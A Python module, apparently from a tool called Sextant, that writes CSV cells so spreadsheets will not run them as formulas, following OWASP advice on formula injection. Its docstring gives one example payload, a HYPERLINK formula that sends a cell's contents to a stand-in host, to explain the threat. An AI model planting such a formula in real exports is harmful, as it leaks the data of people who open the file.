"""CSV cells a spreadsheet will not run.

Spreadsheets read a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return) as a formula: a tool argument such as `=HYPERLINK("http://x/?"&A1, "open")`
in a downloaded answer would run when the file is opened. OWASP's advice is followed: such a
cell gets a leading `'`, which the spreadsheet shows as text. Numbers stay numbers (a negative
number is not a formula), so only text is touched.
"""

from __future__ import annotations

import csv
import decimal
from collections.abc import Iterable
from typing import Any

import orjson

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defused(value: Any) -> Any:
    """The cell as a spreadsheet shows it as text: text that starts like a formula gets `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def json_default(value: Any) -> Any:
    """What orjson cannot write itself: decimals as numbers, bytes as hex, the rest as text."""
    if isinstance(value, decimal.Decimal):
        return float(value)
    if isinstance(value, bytes):
        return value.hex()
    return str(value)


def csv_cell(value: Any) -> Any:
    """One cell of every CSV Sextant writes (the console's SQL download, `--format csv`):
    nothing for null, numbers as they are, bytes as hex, lists and mappings as JSON (so they can
    be read back), any other value as text, defused when it starts like a formula."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | decimal.Decimal):
        return value
    if isinstance(value, bytes):
        return value.hex()
    if isinstance(value, list | tuple | dict):
        options = orjson.OPT_NAIVE_UTC | orjson.OPT_UTC_Z
        return orjson.dumps(value, default=json_default, option=options).decode()
    return defused(str(value))


class _Last:
    """A file for csv.writer that keeps the last row written."""

    line = ""

    def write(self, line: str) -> None:
        self.line = line


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV lines ending in \\n, every cell that holds a line break (\\n or a lone \\r)
    quoted: with "\\n" as its line terminator Python's writer leaves a \\r unquoted, and a
    spreadsheet would start a new row there, its text read as a formula."""
    last = _Last()
    writer = csv.writer(last, lineterminator="\r\n")  # quotes cells holding \r or \n
    out = []
    for row in rows:
        writer.writerow(row)
        out.append(last.line[:-2] + "\n")
    return "".join(out)
